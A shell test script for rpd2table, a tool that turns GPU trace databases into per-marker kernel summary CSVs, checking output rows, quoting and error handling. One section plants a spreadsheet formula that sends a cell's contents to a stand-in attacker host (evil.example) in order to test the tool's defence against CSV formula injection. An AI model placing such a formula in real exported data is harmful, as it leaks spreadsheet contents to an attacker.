#!/bin/sh
# tests/tools/rpd2table.sh - rpd2table: kernel summary per UserMarker per GPU.
. "$(cd "$(dirname "$0")" && pwd)/../lib.sh"

rpd-synth --api 0 -o t.rpd >/dev/null
sqlite3 t.rpd <<'EOF'
INSERT INTO rocpd_string(id, string) VALUES (9001, 'UserMarker'), (9002, 'hipLaunchKernel'), (9003, 'KernelExecution'), (9004, 'gemm, "big"'), (9005, 'add');
INSERT INTO rocpd_ustring(id, string) VALUES (9101, 'step'), (9102, 'decode'), (9103, 'other');
-- markers: step twice on tid 1, decode on tid 2, other on tid 1
INSERT INTO rocpd_api(id, pid, tid, start, end, apiName_id, args_id, domain_id, category_id) VALUES
 (1, 5, 1, 0, 1000, 9001, 9101, 1, 1), (2, 5, 1, 2000, 3000, 9001, 9101, 1, 1),
 (3, 5, 2, 0, 5000, 9001, 9102, 1, 1), (4, 5, 1, 4000, 4500, 9001, 9103, 1, 1),
 (11, 5, 1, 10, 20, 9002, 1, 1, 1), (12, 5, 1, 30, 40, 9002, 1, 1, 1), (13, 5, 1, 2100, 2110, 9002, 1, 1, 1),
 (14, 5, 2, 100, 110, 9002, 1, 1, 1), (15, 5, 1, 4100, 4110, 9002, 1, 1, 1), (16, 5, 1, 1500, 1510, 9002, 1, 1, 1);
INSERT INTO rocpd_op(id, gpuId, queueId, sequenceId, start, end, description_id, opType_id) VALUES
 (1, 0, 0, 0, 100, 400, 9004, 9003), (2, 0, 0, 0, 500, 600, 9005, 9003), (3, 0, 0, 0, 2200, 2700, 9004, 9003),
 (4, 1, 0, 0, 200, 233, 9005, 9003), (5, 0, 0, 0, 4200, 4300, 9005, 9003), (6, 0, 0, 0, 1600, 1700, 9005, 9003);
INSERT INTO rocpd_api_ops(api_id, op_id) VALUES (11, 1), (12, 2), (13, 3), (14, 4), (15, 5), (16, 6);
EOF
cp t.rpd t.orig
cat >want.csv <<'EOF'
marker_name,gpuid,kernel_name,marker_count,kernel_count,total_dur,avg_dur,min_dur,max_dur,kernel_percentage
decode,1,add,1,1,33,33.0,33,33,100.0
step,0,"gemm, ""big""",2,2,800,400.0,300,500,88.88888888888889
step,0,add,1,1,100,100.0,100,100,11.11111111111111
EOF
check_rc "rpd2table FILE 'step, decode' OUT: exit 0" 0 rpd2table t.rpd "step, decode" out.csv
same_file "per marker, gpu, kernel: exact rows (pandas float repr, minimal quoting)" want.csv out.csv
check_eq "summary line on stderr" "rpd2table: 3 rows to out.csv" "$(cat "$TESTDIR/stderr")"
check_rc "markers as separate arguments, stdout" 0 rpd2table t.rpd step decode -
same_file "same table" want.csv "$TESTDIR/stdout"
same_file "input byte-identical (no index added)" t.orig t.rpd
check_eq "python csv reads it: 3 rows, quoted name intact" '3|gemm, "big"' \
  "$(python3 -c 'import csv; r = list(csv.DictReader(open("out.csv"))); print("%d|%s" % (len(r), r[1]["kernel_name"]))')"
rpd2table t.rpd - >all.csv
check_eq "no marker: the whole trace, marker_name empty" ",0,add,1,3,300,100.0,100,100,27.272727272727273" \
  "$(grep '^,0,add' all.csv)"
check_eq "no marker: op time sum" "1133" \
  "$(python3 -c 'import csv; print(sum(int(r["total_dur"]) for r in csv.DictReader(open("all.csv"))))')"
# CSV formula injection: a marker or kernel name a spreadsheet would run
# gets a leading '; numbers stay as they are;
# --csv-raw writes the names as they are
cp t.rpd f.rpd
sqlite3 f.rpd "UPDATE rocpd_string SET string = '=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"click\")' WHERE id = 9005;
  UPDATE rocpd_ustring SET string = '@SUM(A1)' WHERE id = 9102"
rpd2table f.rpd "@SUM(A1)" step - >f.csv 2>/dev/null
check_eq "formula: marker and kernel names neutralised" \
  "'@SUM(A1),1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\",1,1,33,33.0,33,33,100.0" \
  "$(grep '^.@SUM' f.csv)"
rpd2table --csv-raw f.rpd "@SUM(A1)" step - >fr.csv 2>/dev/null
check_eq "formula: --csv-raw as they are" \
  "@SUM(A1),1,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\",1,1,33,33.0,33,33,100.0" \
  "$(grep '^@SUM' fr.csv)"
check_rc "unknown marker: header only" 0 rpd2table t.rpd nosuch -
check_eq "unknown marker: 1 line" "1" "$(wc -l <"$TESTDIR/stdout")"
check_rc "one argument: usage error" 2 rpd2table t.rpd
check_rc "not a trace: exit 1" 1 rpd2table nosuch.rpd x.csv
check_one_line "not a trace: one line"
check_eq "not a trace: no OUT" "no" "$(test -e x.csv && echo yes || echo no)"

if need_shared "$TRACES/synth-small.rpd"; then
  tmpcopy "$TRACES/synth-small.rpd" s.rpd
  check_rc "synth-small: exit 0" 0 rpd2table s.rpd s.csv
  check_eq "synth-small: total_dur = every linked op" \
    "$(q s.rpd "SELECT sum(O.end - O.start) FROM rocpd_api_ops L JOIN rocpd_op O ON O.id = L.op_id JOIN rocpd_api A ON A.id = L.api_id")" \
    "$(python3 -c 'import csv; print(sum(int(r["total_dur"]) for r in csv.DictReader(open("s.csv"))))')"
fi

# a text timestamp is refused, not read as 0 (a 1.7e15 ns kernel at 99.99999%)
cp t.rpd tt.rpd
q tt.rpd "UPDATE rocpd_op SET start = 'x' || start WHERE id = (SELECT min(id) FROM rocpd_op)"
cp tt.rpd tt.orig
check_rc "text op start: refused" 1 rpd2table tt.rpd tt.csv
check_one_line "text op start: one line"
check "text op start: names the column" grep -q "rocpd_op.start: 1 row" "$TESTDIR/stderr"
check_eq "text op start: no OUT" "no" "$(test -e tt.csv && echo yes || echo no)"
same_file "text op start: input byte-identical" tt.rpd tt.orig
